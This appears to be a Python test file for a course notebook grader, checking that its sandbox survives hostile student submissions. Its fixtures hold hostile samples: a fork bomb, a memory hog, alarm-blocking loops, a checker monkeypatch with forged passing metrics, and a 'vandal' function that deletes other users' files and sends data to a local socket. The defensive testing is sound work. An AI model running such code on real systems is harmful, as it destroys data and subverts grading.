"""The grader of a class (workbench.tools.grading.grader): what it takes from a notebook, that the grade comes from its own
judgement and never from what the student's code wrote, and that hostile or broken notebooks get a one-line status
while the grader, the other students and the instructor's files are unaffected.

The sandbox tests need Linux namespaces and root (``unshare``, ``setpriv``); without them they skip locally and fail
under ``CI=true``. Every class here is graded in the checks-only mode (no lesson is run) except the ``slow``
full-mode test.
"""

from __future__ import annotations

import csv
import json
import os
import shutil
import socket
import subprocess
import sys
import tempfile
import threading
from pathlib import Path

import nbformat
import pytest
from conftest import REPO, require

from workbench.lessons import exercises as ex
from workbench.tools.book.assign import copy_student, solution_view
from workbench.tools.grading import grader, sandbox
from workbench.tools.grading.gradebook import item_rows, totals, write_gradebook
from workbench.tools.grading.submission import Submission, extract, read_submission

MASTER = REPO / "notebooks" / "05_masked_attention.ipynb"
NAME = MASTER.stem
IDS = [e.id for e in ex.exercises_of("05")]


def solutions() -> dict[str, str]:
    """The master's solution of each exercise of notebook 05, by function name."""
    nb = nbformat.read(MASTER, as_version=4)
    out = {}
    for cell in nb.cells:
        if "exercise" in cell.metadata.get("tags", []):
            for e in IDS:
                if f"def {e.split('.', 1)[1]}(" in cell.source:
                    out[e.split(".", 1)[1]] = solution_view(cell.source)
    return out


def student(folder: Path, cells: dict[str, str] | None = None, untag: str | None = None,
            extra: str | None = None, predict: str | None = None) -> Path:
    """A student copy of notebook 05 in ``folder`` (the .ipynb alone) with the exercise cells of ``cells`` (function
    name -> cell source) replaced, the exercise tag taken off the cell of ``untag``, and a code cell ``extra``
    tagged exercise appended; ``predict`` replaces the value of ``PREDICT_CAUSAL_TRUE`` in its answer cell."""
    copy_student(folder, only=["05"])
    (folder / f"{NAME}.py").unlink()
    path = folder / f"{NAME}.ipynb"
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        if "exercise" not in cell.metadata.get("tags", []):
            continue
        for name, source in (cells or {}).items():
            if f"def {name}(" in cell.source:
                cell.source = source
        if untag and f"def {untag}(" in cell.source:
            cell.metadata["tags"] = []
    if predict is not None:
        cell = next(c for c in nb.cells if "answer" in c.metadata.get("tags", []))
        cell.source = cell.source.replace("= None", f"= {predict}", 1)
    if extra:
        nb.cells.append(nbformat.v4.new_code_cell(extra, metadata={"tags": ["exercise"]}))
    nbformat.write(nb, path)
    return folder


def statuses(book: dict, who: str) -> dict[str, str]:
    return {r["item"]: r["status"] for r in item_rows(book) if r["student"] == who and r["kind"] == "exercise"}


def hints(book: dict, who: str) -> dict[str, str]:
    return {r["item"]: r["hint"] for r in item_rows(book) if r["student"] == who and r["kind"] == "exercise"}


def require_sandbox() -> None:
    iso = sandbox.probe()
    require(iso.namespaces and iso.own_uid, "Linux namespaces with root (util-linux unshare and setpriv, run as "
            "root)", "run the tests as root on Linux (as CI does); the grader then applies its full isolation")


# -- reading a notebook without running it --------------------------------------------------------------------------
def test_extract_keeps_definitions_and_drops_calls():
    cells = [("import os\nfrom workbench.model.masks import padding_mask, causal_mask\nx = run_lesson()", []),
             ("import math\nEPS: float = 1e-9\nTABLE = {'a': (1, 2)}\nW = torch.randn(3)\n"
              "os.system('echo pwned')\nex.check = lambda *a, **k: None\n%timeit 1\n"
              "@staticmethod\ndef causal_mask(T):\n    return T\nclass Cache:\n    k = None", ["exercise"]),
             ("PREDICT_CAUSAL_TRUE: int | None = 55\nPREDICT_OTHER = 2 + x", ["answer"])]
    got = extract(Submission("s", NAME, "f.ipynb", "", cells), ["padding_mask", "causal_mask"],
                  ["PREDICT_CAUSAL_TRUE", "PREDICT_OTHER"])
    code = "\n".join(s["code"] for s in got.statements)
    # "EPS: float = 1e-09" before: constants are now kept without their annotation (an annotation is code that runs,
    # test_extract_runs_no_annotation_...); the constant and its value are asserted as before
    assert "import os" in code and "import math" in code and "EPS = 1e-09" in code and "TABLE" in code
    assert "def causal_mask" in code and "class Cache" in code
    assert "padding_mask" not in code  # the import that would bind an exercise's name is dropped, causal_mask too
    assert "from workbench.model.masks import" not in code
    for dropped in ("run_lesson", "torch.randn", "os.system", "ex.check", "timeit"):
        assert dropped not in code
    assert got.dropped == 4
    assert set(got.missing) == {"padding_mask"} and "no cell tagged 'exercise' defines padding_mask" in got.missing[
        "padding_mask"]
    assert got.answers == {"PREDICT_CAUSAL_TRUE": 55}
    assert "not a literal" in got.unreadable_answers["PREDICT_OTHER"]


def test_extract_runs_no_annotation_and_no_assignment_to_an_attribute_or_item():
    """The probe's finding: an annotation is an expression, evaluated when the statement runs."""
    cells = [("marker: __import__('pathlib').Path('/tmp/ran').write_text('x') = 1\nsys.modules['torch'] = None\n"
              "ex.EXERCISES = {}\nK: int = 3\nA = B = 2\ndef causal_mask(T):\n    return T", ["exercise"])]
    got = extract(Submission("s", NAME, "f.ipynb", "", cells), ["causal_mask"])
    code = "\n".join(s["code"] for s in got.statements)
    assert "marker = 1" in code and "K = 3" in code and "A = B = 2" in code and "def causal_mask" in code
    for dropped in ("__import__", "write_text", "sys.modules", "EXERCISES"):
        assert dropped not in code
    assert got.dropped == 2


def test_extract_says_where_a_function_went():
    cells = [("def padding_mask(t, p):\n    return t != p", []), ("def causal_mask(T) return", ["exercise"])]
    got = extract(Submission("s", NAME, "f.ipynb", "", cells), ["padding_mask", "causal_mask"])
    assert "not tagged 'exercise'" in got.missing["padding_mask"]
    assert "syntax error" in got.missing["causal_mask"]


def test_read_submission_picks_the_newer_twin_and_survives_a_broken_file(tmp_path):
    copy_student(tmp_path, only=["05"])
    ipynb, py = tmp_path / f"{NAME}.ipynb", tmp_path / f"{NAME}.py"
    assert read_submission("s", tmp_path, NAME).file == ipynb.name  # written together: the .ipynb
    os.utime(ipynb, (ipynb.stat().st_atime, py.stat().st_mtime - 60))
    sub = read_submission("s", tmp_path, NAME)
    assert sub.file == py.name and "saved after" in sub.note
    py.write_bytes(b"\xff\xfe not text")
    ipynb.write_text("{ this is not json")
    sub = read_submission("s", tmp_path, NAME)
    assert not sub.readable and "not JSON" in sub.note and "\n" not in sub.note


def test_a_submission_that_is_a_symbolic_link_is_not_graded(tmp_path):
    """The probe's finding: a student's notebook linked to the master (or to a file only the instructor can read)
    was read, as the instructor, and graded 2/2."""
    master = tmp_path / "master"
    copy_student(master, only=["05"])
    alice = tmp_path / "class" / "alice"
    alice.mkdir(parents=True)
    (alice / f"{NAME}.ipynb").symlink_to(master / f"{NAME}.ipynb")
    (alice / f"{NAME}.py").symlink_to(master / f"{NAME}.py")
    sub = read_submission("alice", alice, NAME)
    assert not sub.readable and "symbolic link" in sub.note
    (tmp_path / "class" / "bob").symlink_to(master, target_is_directory=True)  # a whole folder linked in
    assert "symbolic link" in read_submission("bob", tmp_path / "class" / "bob", NAME).note


def test_student_seed_is_stable_and_differs_between_students():
    assert grader.student_seed("alice") == grader.student_seed("alice")
    assert len({grader.student_seed(f"s{i}") for i in range(50)}) == 50
    with pytest.raises(ValueError, match="seed"):
        grader.GradeOptions(seed="per-student")


def test_class_folder_or_single_folder(tmp_path):
    student(tmp_path / "class" / "ann")
    student(tmp_path / "class" / "ben")
    (tmp_path / "class" / "notes").mkdir()
    assert [s for s, _ in grader.class_folders(tmp_path / "class")] == ["ann", "ben"]
    assert [s for s, _ in grader.class_folders(tmp_path / "class" / "ann")] == ["ann"]
    with pytest.raises(ValueError, match="holds no numbered notebook"):
        grader.class_folders(tmp_path / "class" / "notes")


# -- grading a class: the grade is the grader's ----------------------------------------------------------------------
FORGED_METRICS = {"exercises": [{"exercise": e, "status": "passed", "message": "", "mistake": None} for e in IDS]}
MONKEYPATCH = """import os
from workbench.lessons import exercises as ex
ex.check = lambda exercise_id, fn, *a, **k: None
ex.judge = lambda *a, **k: None
os.system('touch {marker}')
"""


@pytest.fixture(scope="module")
def graded(tmp_path_factory):
    require_sandbox()
    root = tmp_path_factory.mktemp("grade")
    cls = root / "class"
    right = solutions()
    student(cls / "honest", right, predict="55")
    forger = student(cls / "forger", extra=MONKEYPATCH.format(marker=root / "pwned"), predict="45")
    (forger / "metrics.json").write_text(json.dumps(FORGED_METRICS))
    (forger / NAME).mkdir()
    (forger / NAME / "metrics.json").write_text(json.dumps(FORGED_METRICS))
    renamed = right["causal_mask"].replace("def causal_mask(", "def causal_mask2(")
    student(cls / "renamer", {**right, "causal_mask": renamed}, untag="padding_mask", predict="int('55')")
    broken = cls / "broken"
    broken.mkdir()
    (broken / f"{NAME}.ipynb").write_text('{"cells": [ this is not JSON')
    twin = student(cls / "twin")
    copy_student(twin, only=["05"], force=True)  # both files, then the .py edited later with a right answer
    py = twin / f"{NAME}.py"
    py.write_text(py.read_text().replace('raise NotImplementedError("write padding_mask, then run the check below")',
                                         "return tokens != pad_id"))
    os.utime(twin / f"{NAME}.ipynb", (0, py.stat().st_mtime - 60))
    book = grader.grade_class(cls, grader.GradeOptions(seed="student", timeout=60))
    return book, root


def test_grades_come_from_the_grader_not_from_the_student(graded):
    book, root = graded
    assert set(statuses(book, "honest").values()) == {"passed"}
    forged = statuses(book, "forger")
    assert set(forged.values()) == {"not attempted"}, forged  # forged metrics.json and a patched check: no effect
    assert not (root / "pwned").exists()  # the top-level os.system of an exercise cell never ran


def test_predictions_are_graded_from_literals(graded):
    book, _ = graded
    got = {(r["student"], r["item"]): (r["status"], r["hint"]) for r in item_rows(book) if r["kind"] == "prediction"}
    assert got[("honest", "05.causal_true")][0] == "right"
    assert got[("forger", "05.causal_true")][0] == "off"  # the planted "diagonal forgotten" answer
    assert got[("renamer", "05.causal_true")][0] == "unreadable"  # a call is not a literal: never evaluated
    assert got[("twin", "05.causal_true")][0] == "no prediction"
    assert got[("broken", "05.causal_true")][0] == "not run"


def test_bad_notebooks_get_one_line_each(graded):
    book, _ = graded
    broken = hints(book, "broken")
    assert set(statuses(book, "broken").values()) == {"not run"}
    assert all("not JSON" in h and "\n" not in h for h in broken.values())
    renamer = statuses(book, "renamer")
    assert renamer["05.causal_mask"] == "missing" and "causal_mask2" in hints(book, "renamer")["05.causal_mask"]
    assert renamer["05.padding_mask"] == "missing"
    assert "not tagged 'exercise'" in hints(book, "renamer")["05.padding_mask"]
    assert renamer["05.attend_with_cache"] == renamer["05.greedy_loop"] == "passed"


def test_newer_twin_is_graded_and_named(graded):
    book, _ = graded
    record = next(r for r in book["records"] if r["student"] == "twin")
    assert record["file"] == f"{NAME}.py" and "saved after" in record["note"]
    assert statuses(book, "twin")["05.padding_mask"] == "passed"
    assert statuses(book, "twin")["05.causal_mask"] == "not attempted"


def test_gradebook_files(graded, tmp_path):
    book, _ = graded
    paths = write_gradebook(book, tmp_path)
    with open(paths["items"], newline="") as f:
        rows = list(csv.DictReader(f))
    assert {r["student"] for r in rows} == {"honest", "forger", "renamer", "broken", "twin"}
    assert {(r["student"], r["item"]) for r in rows if r["kind"] == "exercise"} == {
        (s, e) for s in ("honest", "forger", "renamer", "broken", "twin") for e in IDS}
    assert all(r["hint"] for r in rows if r["kind"] == "exercise" and r["status"] != "passed")
    with open(paths["totals"], newline="") as f:
        by_student = {r["student"]: r for r in csv.DictReader(f)}
    assert by_student["honest"]["passed"] == str(len(IDS)) and by_student["forger"]["passed"] == "0"
    saved = json.loads(paths["json"].read_text())
    assert saved["meta"]["isolation"]["namespaces"] and "no network" in saved["meta"]["isolation_text"]
    seeds = {r["student"]: r["seed"] for r in saved["records"]}
    assert seeds["honest"] == grader.student_seed("honest") != seeds["forger"]
    assert [r["student"] for r in totals(book)] == ["broken", "forger", "honest", "renamer", "twin"]


def test_a_second_grading_keeps_the_first_gradebook(graded, tmp_path):
    """The probe's finding: grading again into the same --out replaced a gradebook an instructor may have edited."""
    book, _ = graded
    paths = write_gradebook(book, tmp_path)
    paths["totals"].write_text("edited by hand\n")
    write_gradebook(book, tmp_path)
    kept = [p for p in tmp_path.iterdir() if p.name.startswith("previous-")]
    assert len(kept) == 1 and (kept[0] / "totals.csv").read_text() == "edited by hand\n"
    assert sorted(p.name for p in kept[0].iterdir()) == ["gradebook.csv", "gradebook.json", "totals.csv"]
    assert paths["totals"].read_text() != "edited by hand\n"


@pytest.mark.parametrize("extra", [["--memory-gb", "0"], ["--timeout", "nan"], ["--jobs", "0"], ["--out", "INSIDE"]])
def test_grading_options_that_would_grade_wrongly_are_refused_before_any_work(tmp_path, capsys, extra):
    from workbench.tools.cli.main import main

    klass = tmp_path / "class"
    (klass / "alice").mkdir(parents=True)
    extra = [str(klass / "alice" / "book") if e == "INSIDE" else e for e in extra]
    argv = ["notebooks", "grade", str(klass), "--checks-only", *extra]
    if "--out" not in extra:
        argv += ["--out", str(tmp_path / "gradebook")]
    assert main(argv) == 2
    assert "error:" in capsys.readouterr().err and not (tmp_path / "gradebook").exists()


# -- hostile solutions ---------------------------------------------------------------------------------------------
HOSTILE = {
    # a loop the check's own alarm stops
    "padding_mask": "def padding_mask(tokens, pad_id):\n    while True:\n        pass",
    # a loop that blocks the alarm: the worker's time-out stops it, a new worker grades the rest
    "causal_mask": "import signal\ndef causal_mask(T):\n    signal.pthread_sigmask(signal.SIG_BLOCK, "
                   "{signal.SIGALRM})\n    while True:\n        pass",
}
HOG = "import torch\ndef attend_with_cache(x_new, cache, W_q, W_k, W_v):\n    big = torch.ones(5 * 2**30)  # 20 GB\n" \
      "    return big"
FORKER = ("import os, time\ndef greedy_loop(next_logits, bos_id, eos_id, max_len):\n    for _ in range(1000):\n"
          "        if os.fork() == 0:\n            time.sleep(600)\n            os._exit(0)\n    return []")
# its process ends mid-check, after leaving a folder where the worker keeps its observations
CRASHER = ("import os\ndef padding_mask(tokens, pad_id, _=os.makedirs('obs-9', exist_ok=True)):\n"
           "    os.makedirs('child-7', exist_ok=True)\n    os._exit(3)")
VANDAL = """import os, shutil, socket
def padding_mask(tokens, pad_id):
    for path in {targets!r}:
        try:
            with open(path, "a") as f:
                f.write("vandalised")
        except OSError:
            pass
        try:
            os.remove(path)
        except OSError:
            pass
    for folder in {folders!r}:
        shutil.rmtree(folder, ignore_errors=True)
    with open("/tmp/big", "wb") as f:
        f.write(b"x" * 1024)
    socket.create_connection(("127.0.0.1", {port}), timeout=2).sendall(b"leak")
    return tokens != pad_id
"""


@pytest.fixture(scope="module")
def hostile(tmp_path_factory):
    require_sandbox()
    root = tmp_path_factory.mktemp("hostile")
    cls = root / "class"
    right = solutions()
    student(cls / "a-honest", right)
    student(cls / "looper", {**right, **HOSTILE})
    student(cls / "hog", {**right, "attend_with_cache": HOG})
    student(cls / "forker", {**right, "greedy_loop": FORKER})
    student(cls / "crasher", {**right, "padding_mask": CRASHER})
    (REPO / "build").mkdir(exist_ok=True)
    instructor = Path(tempfile.mkdtemp(prefix="grader-canary-", dir=REPO / "build"))  # visible to the sandbox
    instructor.chmod(0o755)
    canary = instructor / "canary.txt"
    canary.write_text("the instructor's file")
    server = socket.create_server(("127.0.0.1", 0))
    server.settimeout(1)
    accepted = []

    def serve() -> None:
        while not stop.is_set():
            try:
                accepted.append(server.accept())
            except OSError:
                pass

    stop = threading.Event()
    thread = threading.Thread(target=serve, daemon=True)
    thread.start()
    vandal = VANDAL.format(targets=[str(canary), str(cls / "a-honest" / f"{NAME}.ipynb")],
                           folders=[str(cls / "a-honest"), str(instructor)], port=server.getsockname()[1])
    student(cls / "vandal", {**right, "padding_mask": vandal})
    before = {p: p.read_bytes() for p in cls.rglob("*") if p.is_file()}
    try:
        book = grader.grade_class(cls, grader.GradeOptions(timeout=120, time_limit=3))
    finally:
        stop.set()
        thread.join()
        server.close()
    yield book, before, canary, accepted
    shutil.rmtree(instructor, ignore_errors=True)


@pytest.mark.slow
def test_hostile_solutions_get_one_line_and_harm_nothing(hostile):
    book, before, canary, accepted = hostile
    assert set(statuses(book, "a-honest").values()) == {"passed"}  # graded beside them, unaffected
    looper = statuses(book, "looper")
    assert looper["05.padding_mask"] == looper["05.causal_mask"] == "failed", hints(book, "looper")
    assert "time" in hints(book, "looper")["05.padding_mask"]
    assert "stopped after 24 s on this exercise" in hints(book, "looper")["05.causal_mask"]
    assert looper["05.attend_with_cache"] == looper["05.greedy_loop"] == "passed"  # a new worker went on
    assert statuses(book, "hog")["05.attend_with_cache"] == "failed"
    assert statuses(book, "forker")["05.greedy_loop"] == "failed"
    assert statuses(book, "vandal")["05.padding_mask"] == "failed"
    crasher = statuses(book, "crasher")  # one exercise's process ended: that one fails, named; the rest graded
    assert crasher.pop("05.padding_mask") == "failed" and set(crasher.values()) == {"passed"}, hints(book, "crasher")
    assert "exit status 3" in hints(book, "crasher")["05.padding_mask"], hints(book, "crasher")
    for who in ("looper", "hog", "forker", "vandal", "crasher"):
        assert all(h and "\n" not in h for h in hints(book, who).values() if h), hints(book, who)
    assert canary.read_text() == "the instructor's file"
    assert {p: p.read_bytes() for p in before if p.exists()} == before  # no student file changed or removed
    assert accepted == []  # the grader's own loopback was out of reach


@pytest.mark.slow
def test_no_process_outlives_its_sandbox(hostile):
    low, high = sandbox.UID_RANGE
    left = []
    for entry in Path("/proc").iterdir():
        if entry.name.isdigit():
            try:
                if low <= entry.stat().st_uid <= high:
                    left.append(entry.name)
            except OSError:
                pass
    assert left == []


def test_sandbox_environment_and_limits(tmp_path):
    require_sandbox()
    os.environ["WORKBENCH_SECRET_TOKEN"] = "s3cret"
    try:
        probe = ("import os, resource, json; print(json.dumps({'env': dict(os.environ), 'uid': os.getuid(), "
                 "'cwd': os.getcwd(), 'as': resource.getrlimit(resource.RLIMIT_AS)[0], "
                 "'nproc': resource.getrlimit(resource.RLIMIT_NPROC)[0], 'home': sorted(os.listdir(os.path.expanduser("
                 "'~')))}))")
        work = tmp_path / "w"
        work.mkdir()
        limits = sandbox.Limits(wall_seconds=60, memory_bytes=3 * 2**30, processes=50)
        result = sandbox.run([sys.executable, "-c", probe], work, limits)
    finally:
        del os.environ["WORKBENCH_SECRET_TOKEN"]
    assert result.returncode == 0, result.output
    seen = json.loads(result.output.strip().splitlines()[-1])
    assert "WORKBENCH_SECRET_TOKEN" not in seen["env"] and seen["env"]["HOME"] == "/tmp"
    # the home held [".output"] before: the run's output now goes to a file with no name (a name in the run's folder
    # could be swapped for a link or a pipe, tests/test_grader_attacks_host.py), so nothing the grader wrote is there
    assert seen["uid"] != 0 and seen["cwd"] == "/tmp" and seen["home"] == []
    assert seen["as"] == 3 * 2**30 and seen["nproc"] == 50
    stuck = sandbox.run(["sleep", "30"], work, sandbox.Limits(wall_seconds=1))
    assert stuck.timed_out and "time-out of 1 s" in stuck.reason(sandbox.Limits(wall_seconds=1))


# -- the command -----------------------------------------------------------------------------------------------------
def test_cli_grades_a_class_and_writes_the_gradebook(tmp_path):
    require_sandbox()
    right = solutions()
    student(tmp_path / "class" / "ann", right)
    student(tmp_path / "class" / "ben", {"padding_mask": right["padding_mask"]})
    out = tmp_path / "book"
    proc = subprocess.run([sys.executable, "-m", "workbench", "notebooks", "grade", str(tmp_path / "class"),
                           "--out", str(out), "--seed-from-student", "--timeout", "60", "--checks-only"],
                          capture_output=True, text=True, timeout=600)
    assert proc.returncode == 1, proc.stderr[-2000:]  # ben has exercises not passed
    assert "ann" in proc.stdout and "isolation:" in proc.stdout
    rows = list(csv.DictReader(open(out / "gradebook.csv", newline="")))
    ben = {r["item"]: r["status"] for r in rows if r["student"] == "ben" and r["kind"] == "exercise"}
    assert ben["05.padding_mask"] == "passed" and ben["05.causal_mask"] == "not attempted"
    assert json.loads((out / "gradebook.json").read_text())["meta"]["seed"].startswith("per student")


def test_grade_help_says_it_executes_student_code():
    proc = subprocess.run([sys.executable, "-m", "workbench", "notebooks", "grade", "--help"], capture_output=True,
                          text=True, timeout=120)
    text = " ".join(proc.stdout.split()).lower()
    assert "executes student code" in text and "docker run" in text and "--network none" in text
    assert "formative" in text


# -- the full mode: each notebook also runs, in the sandbox ------------------------------------------------------
@pytest.mark.slow
@pytest.mark.notebook
def test_full_mode_reports_whether_each_notebook_runs(tmp_path):
    require_sandbox()
    right = solutions()
    student(tmp_path / "class" / "runs", right)
    student(tmp_path / "class" / "stops", right, extra="raise RuntimeError('the student broke this cell')")
    book = grader.grade_class(tmp_path / "class", grader.GradeOptions(mode="full", smoke=True, timeout=300))
    ran = {r["student"]: r["ran"] for r in book["records"]}
    assert ran["runs"] == "ran to the end"
    assert "RuntimeError" in ran["stops"] and "\n" not in ran["stops"]
    assert set(statuses(book, "runs").values()) == {"passed"}
    assert set(statuses(book, "stops").values()) == {"not run"}
    assert all("RuntimeError" in h for h in hints(book, "stops").values())


# -- a book without the solutions ----------------------------------------------------------------------------------
def test_book_stubs_leave_no_solution_in_any_master():
    from workbench.tools.book.assign import book_stubs, strip_solutions

    for path in sorted((REPO / "notebooks").glob("0[1-8]_*.ipynb")):
        nb = nbformat.read(path, as_version=4)
        masters = {i: c.source for i, c in enumerate(nb.cells) if "exercise" in c.metadata.get("tags", [])}
        assert masters, path.name
        assert book_stubs(nb) >= len(masters)
        for i, source in masters.items():
            shown = nb.cells[i].source
            assert shown == strip_solutions(source) and "NotImplementedError" in shown, (path.name, i)
            solution_only = set(solution_view(source).splitlines()) - set(shown.splitlines())
            assert solution_only and not any(line in shown for line in solution_only if line.strip())
            assert "hide-input" not in nb.cells[i].metadata.get("tags", []) and nb.cells[i].outputs == []


def test_book_build_no_solutions_reaches_the_builder(monkeypatch):
    import workbench.tools.book.build as book
    from workbench.tools.cli.course import cmd_book
    from workbench.tools.cli.main import build_parser

    seen = {}

    def fake_build(**kwargs):
        seen.update(kwargs)
        raise SystemExit(0)

    monkeypatch.setattr(book, "build_book", fake_build)
    for argv, solutions in ((["book", "build", "--no-solutions"], False), (["book", "build"], True)):
        with pytest.raises(SystemExit):
            cmd_book(build_parser().parse_args(argv))
        assert seen["solutions"] is solutions


def test_command_line_page_documents_the_grader():
    import shlex

    from workbench.tools.cli.main import build_parser

    page = (REPO / "workbench" / "book_src" / "command-line.md").read_text(encoding="utf-8")
    flat = " ".join(page.split())
    assert "Grading executes student code" in flat and "formative" in flat and "docker run --rm --network none" in flat
    documented = next(line for line in page.splitlines() if line.startswith("workbench notebooks grade my-class --"))
    args = build_parser().parse_args(shlex.split(documented)[1:])
    assert args.checks_only and args.seed_from_student and args.out == "gradebook"
    docker = page[page.index("docker run --rm"):].split("```")[0].replace("\\\n", " ")
    inside = shlex.split(docker)[shlex.split(docker).index("workbench") + 1:]
    assert build_parser().parse_args(inside).target == "/class"


def test_a_notebook_that_stops_lists_its_exercises_not_run(tmp_path, monkeypatch):
    student(tmp_path / "ann", solutions())
    why = "the notebook stopped: NameError: name 'x' is not defined"
    monkeypatch.setattr(grader, "_run_notebook", lambda *a, **k: why)
    book = grader.grade_class(tmp_path / "ann", grader.GradeOptions(mode="full"))
    record = book["records"][0]
    assert record["ran"] == why
    assert [e["exercise"] for e in record["exercises"]] == IDS
    assert all(e["status"] == "not run" and e["message"] == why for e in record["exercises"])
    assert totals(book)[0]["notes"] == f"{NAME}: {why}"


def test_masters_with_renamed_functions_and_a_failed_exercise_grade_as_the_lessons_run(tmp_path):
    """03 calls its split `to_heads`, 07 its functions `rate_by_hand`, `smoothed_loss` ...: the grader finds them by
    the exercise's function name; and after a failed exercise the later ones use the package's function under its
    name, as the lesson does (02.attention calls the student's `attention_weights`)."""
    require_sandbox()
    cls = tmp_path / "class"
    for who in ("master", "half"):
        (cls / who).mkdir(parents=True)
        for number in ("02", "03", "07"):
            shutil.copy(next((REPO / "notebooks").glob(f"{number}_*.ipynb")), cls / who)
    path = next((cls / "half").glob("02_*.ipynb"))
    nb = nbformat.read(path, as_version=4)
    for cell in nb.cells:
        if "exercise" in cell.metadata.get("tags", []) and "def attention_weights(" in cell.source:
            cell.source = ("def attention_weights(q, k, mask=None):\n"
                           "    return torch.softmax(q @ k.transpose(-2, -1), -1)  # unscaled, unmasked\n")
    nbformat.write(nb, path)
    book = grader.grade_class(cls, grader.GradeOptions(timeout=240))
    master = statuses(book, "master")
    assert set(master) >= {"03.split_heads", "07.rate", "07.label_smoothed_loss", "07.average_checkpoints"}
    assert set(master.values()) == {"passed"}, master
    half = statuses(book, "half")
    assert half["02.attention_weights"] == "failed" and half["02.attention"] == "passed", half


def _killing(real, kill_when):
    """A stand-in for grader._work that, where ``kill_when(job exercises)``, acts as a worker the kernel killed before
    it sent anything (with the exit status and message that `unshare --kill-child` gives then)."""
    calls: list[list[str]] = []

    def work(job, folder, opts, hide, seconds, channel, watch=None):
        calls.append(list(job["exercises"]))
        if kill_when(job["exercises"], len(calls)):
            os.close(channel.write_fd)
            return sandbox.RunResult(1, False, 0.1, "unshare: sigprocmask unblock failed: Invalid argument"), opts.limits
        return real(job, folder, opts, hide, seconds, channel, watch)

    return work, calls


def test_a_worker_killed_from_outside_once_costs_no_grade(tmp_path, monkeypatch):
    student(tmp_path / "ann", solutions())
    work, calls = _killing(grader._work, lambda todo, n: n == 1)
    monkeypatch.setattr(grader, "_work", work)
    book = grader.grade_class(tmp_path / "ann", grader.GradeOptions(time_limit=5))
    assert set(statuses(book, "ann").values()) == {"passed"}, hints(book, "ann")
    assert calls[0] == calls[1] == IDS  # the same exercises again, in a fresh worker


def test_an_exercise_whose_worker_is_killed_twice_is_blamed_alone(tmp_path, monkeypatch):
    student(tmp_path / "ann", solutions())
    work, calls = _killing(grader._work, lambda todo, n: todo[0] == IDS[0])
    monkeypatch.setattr(grader, "_work", work)
    book = grader.grade_class(tmp_path / "ann", grader.GradeOptions(time_limit=5))
    got = statuses(book, "ann")
    assert got[IDS[0]] == "failed" and all(got[i] == "passed" for i in IDS[1:]), got
    assert "was killed (memory, CPU or process limit), twice" in hints(book, "ann")[IDS[0]]
    assert calls == [IDS, IDS, IDS[1:]]


def test_run_result_reads_a_kill_through_unshare():
    limits = sandbox.Limits()
    assert sandbox.RunResult(-9, False, 1.0, "").killed
    masked = sandbox.RunResult(1, False, 1.0, "x\nunshare: sigprocmask unblock failed: Invalid argument\n")
    assert masked.killed and masked.reason(limits) == "was killed (memory, CPU or process limit)"
    plain_exit = sandbox.RunResult(1, False, 1.0, "Traceback ...\nValueError: no")
    assert not plain_exit.killed and plain_exit.reason(limits) == "exit status 1: ValueError: no"
